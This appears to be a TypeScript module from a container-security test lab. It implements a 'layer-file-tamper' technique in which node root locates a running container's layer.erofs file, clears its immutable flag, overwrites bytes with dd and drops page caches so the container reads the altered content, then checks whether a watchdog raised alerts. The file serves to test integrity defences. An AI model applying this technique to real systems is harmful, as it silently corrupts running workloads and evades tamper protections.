/**
 * Attack: root on the node edits a layer.erofs file in place, so that a file
 * inside a running container changes. On vanilla containerd 2.1 the change is
 * visible once the page cache is dropped, and nothing notices (FACTS.md).
 *
 * The attacker behaves like a real one: if the layer file carries the
 * immutable flag (set_immutable), it removes it with chattr, edits, and puts
 * the flag back.
 */
import { createHash } from 'node:crypto';
import { dirname } from 'node:path';
import { LabError } from '../../errors.ts';
import type { RunningPod } from '../../cri/index.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Attack } from '../../spec/schemas.ts';
import type { Technique } from '../technique.ts';
import { findLayerFileContaining, requirePath, requirePayload, requirePod } from './common.ts';
import { containerInitPid, containerMountinfo, readContainerFile } from './start.ts';
import { awaitWatchdogAlerts, watchdogGraceMs } from '../../watchdog/index.ts';
import { rootLowerdirs } from '../../watchdog/mountinfo.ts';

import type { AttackErrorCode } from './common.ts';
export type { AttackErrorCode };

export interface TamperEvidence {
  layerFile: string;
  offset: number;
  layerSha256Before: string;
  layerSha256After: string;
  immutableFlagCleared: boolean;
  contentBefore: string;
  contentAfter: string;
  containerMountinfo: string;
}

export interface TamperResult {
  /** The container now reads the attacker's bytes. */
  effect: boolean;
  evidence: TamperEvidence;
}

/**
 * $1 the container's root as the node sees it (/proc/<pid>/root), $2 the
 * layer file, $3 the offset, $4 the path in the container, $5 "1" when the
 * layer file is immutable (cleared for the edit and set again, as root can),
 * $6 the length of the edit. The replacement bytes come on stdin; the file
 * as the container's root serves it after the edit goes to stdout (exit
 * UNREADABLE if it cannot be read).
 *
 * drop_caches frees only the pages nobody holds at that instant: a reader
 * of the same layer at that moment (the watchdog re-verifying it, on
 * integrity) keeps the old page cached. So the attacker does what root
 * would: drops the caches again, up to ten times 100 ms apart, until the
 * container's file shows the bytes now in the layer file at the offset.
 */
/** The edit was made but the file could not be read back through the container's root. */
const UNREADABLE = 93;
const EDIT_AND_READ_BACK = `cd "$1" || exit 90
[ "$5" = 1 ] && { chattr -i "$2" || exit 91; }
dd of="$2" bs=1 seek="$3" conv=notrunc status=none; rc=$?
[ "$5" = 1 ] && { chattr +i "$2" || exit 94; }
[ $rc -eq 0 ] || exit $rc
want=$(dd if="$2" bs=1 skip="$3" count="$6" status=none)
for try in 1 2 3 4 5 6 7 8 9 10; do
  sync && echo 3 > /proc/sys/vm/drop_caches || exit 92
  [ "$(cat -- ".$4" 2>/dev/null)" = "$want" ] && break
  sleep 0.1
done
cat -- ".$4" || exit ${UNREADABLE}
`;

function sha256(data: Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

export async function tamperLayerFile(node: LabNodeHandle, pod: RunningPod, attack: Attack): Promise<TamperResult> {
  const container = pod.containers[0];
  if (!container) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `pod ${pod.namespace}/${pod.name} has no container`);
  const path = requirePath(attack);

  // Evidence is read from the node (/proc/<pid>/root), never by running something in the container.
  const read = async () => {
    const r = await readContainerFile(node, container.id, path);
    if (!r.ok) {
      throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `${path} is not readable in ${pod.namespace}/${pod.name}: ${r.stderr.trim()}`);
    }
    return r.content;
  };
  const original = await read();
  const payload = Buffer.from(requirePayload(attack), 'utf8');
  if (payload.length > original.length) {
    throw new LabError<AttackErrorCode>(
      'ATTACK_PAYLOAD_TOO_LONG',
      `attack "${attack.metadata.name}": the payload is ${payload.length} bytes but ${path} has ${original.length}; an in-place edit cannot grow the file`,
    );
  }
  // Same length as the original: pad with spaces before the final newline.
  const replacement = Buffer.alloc(original.length, ' '.charCodeAt(0));
  payload.copy(replacement);

  // The container's own mountinfo names the overlay lowerdirs; on the node,
  // each lowerdir is snapshots/N/fs with the layer file at snapshots/N/layer.erofs.
  const mountinfo = await containerMountinfo(node, container.id);
  const lowerdirs = rootLowerdirs(mountinfo);
  let layerFile: string | undefined;
  let offset = -1;
  let before: Buffer | undefined;
  for (const lower of lowerdirs) {
    const candidate = `${dirname(lower)}/layer.erofs`;
    const bytes = await node.readFile(candidate).catch(() => undefined);
    if (!bytes) continue;
    const at = bytes.indexOf(original);
    if (at >= 0) {
      if (bytes.indexOf(original, at + 1) >= 0) {
        throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `the content of ${path} occurs twice in ${candidate}; make it unique in the workload`);
      }
      layerFile = candidate;
      offset = at;
      before = bytes;
      break;
    }
  }
  if (!layerFile) {
    // The start gate mounts layers from loop devices on its own mount
    // points: root then finds the layer file by its content, as root can.
    const found = await findLayerFileContaining(node, original).catch(() => undefined);
    if (found) ({ layerFile, offset, content: before } = found);
  }
  if (!layerFile || !before) {
    throw new LabError<AttackErrorCode>(
      'ATTACK_TARGET_NOT_FOUND',
      `the content of ${path} was not found in any layer.erofs of ${pod.namespace}/${pod.name} (lowerdirs: ${lowerdirs.join(', ') || 'none'})`,
    );
  }

  const lsattr = (await node.exec.run(['lsattr', layerFile])).stdout.toString();
  const immutable = /^\S*i\S*\s/.test(lsattr);
  const { pid, state } = await containerInitPid(node, container.id);
  if (!pid) throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `${pod.namespace}/${pod.name}: container ${container.id.slice(0, 12)} is ${state}`);
  // One shell does the edit and reads it back. It holds the container's root
  // as its working directory from before the edit, so the read after the
  // page cache is dropped (EROFS serves reads from it) is what the
  // container's root serves, even if a defence stops the container as soon
  // as it sees the edit: the root mount lives as long as the shell holds it.
  const r = await node.exec.run(['sh', '-c', EDIT_AND_READ_BACK, 'edit', `/proc/${pid}/root`, layerFile, String(offset), path, immutable ? '1' : '', String(replacement.length)], { input: replacement });
  if (r.exitCode !== 0 && r.exitCode !== UNREADABLE) {
    throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `editing ${layerFile} at ${offset} behind ${path} of ${pod.namespace}/${pod.name} failed (exit ${r.exitCode}): ${r.stderr.toString().trim()}`);
  }
  const seen = r.exitCode === 0 ? r.stdout : Buffer.from(`(unreadable: ${r.stderr.toString().trim()})`);
  const after = await node.readFile(layerFile);
  return {
    effect: seen.equals(replacement),
    evidence: {
      layerFile,
      offset,
      layerSha256Before: sha256(before),
      layerSha256After: sha256(after),
      immutableFlagCleared: immutable,
      contentBefore: original.toString('utf8'),
      contentAfter: seen.toString('utf8'),
      containerMountinfo: mountinfo,
    },
  };
}

export const layerFileTamper: Technique = {
  name: 'layer-file-tamper',
  async run({ node, attack, pods, workload }) {
    const since = new Date(Date.now() - 1000);
    const pod = requirePod(pods, attack);
    const result = await tamperLayerFile(node, pod, attack);
    // The watchdog re-verifies layers in use once per period: give it one (no wait without it).
    const watchdogAlerts = await awaitWatchdogAlerts(node, {
      since,
      timeoutMs: watchdogGraceMs(node, 'layer', workload.spec.namespace),
      predicate: (a) => a.kind === 'layer' && a.container === pod.containers[0]?.id,
    });
    if (watchdogAlerts.length) Object.assign(result.evidence, { watchdogAlerts });
    return {
      effect: result.effect,
      reason: result.effect
        ? `the running container reads the attacker's bytes from ${attack.spec.target.path}`
        : `the running container still reads the original ${attack.spec.target.path}`,
      evidence: { ...result.evidence },
    };
  },
};
